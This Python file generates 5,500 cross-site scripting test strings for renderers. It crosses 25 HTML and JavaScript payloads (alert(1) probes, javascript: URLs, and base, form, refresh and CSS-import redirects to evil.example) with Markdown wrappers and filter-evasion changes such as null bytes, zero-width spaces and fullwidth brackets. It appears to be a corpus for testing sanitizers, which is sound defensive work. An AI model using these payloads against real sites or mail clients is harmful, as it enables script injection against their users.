"""Texts that want to run in a reader's browser or mail program: 5,500 of them, made by rule."""

import itertools
from collections.abc import Callable, Iterator

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=data:text/html,x></object>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "</p></div></body><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "{{ 7|add:7 }}{% debug %}",
    '" onmouseover="alert(1)" x="',
)
WRAPPERS = (
    "{0}",
    "Before {0} after",
    "# {0}",
    "- {0}\n- {0}",
    "1. {0}",
    "> {0}",
    "**{0}** and *{0}*",
    "`{0}`",
    "```\n{0}\n```",
    "    {0}",
    "[x]({0})",
    "[x](<{0}>)",
    "[{0}](https://example.org)",
    "![{0}]({0})",
    "<{0}>",
    "[x]: {0}\n\n[x]",
    "| a | {0} |\n|---|---|\n| {0} | b |",
    "[x](https://example.org/?q={0} '{0}')",
    "https://example.org/{0}",
    "a\n{0}\n===",
    "&{0};",
    "\\{0}",
)
CHANGES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("script", "scr\u200bipt"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(":", "&colon;"),
    lambda text: text.replace("=", "\x0b="),
    lambda text: text * 2,
)


def texts() -> Iterator[str]:
    """All of them."""
    for payload, wrapper, change in itertools.product(PAYLOADS, WRAPPERS, CHANGES):
        yield wrapper.replace("{0}", change(payload))
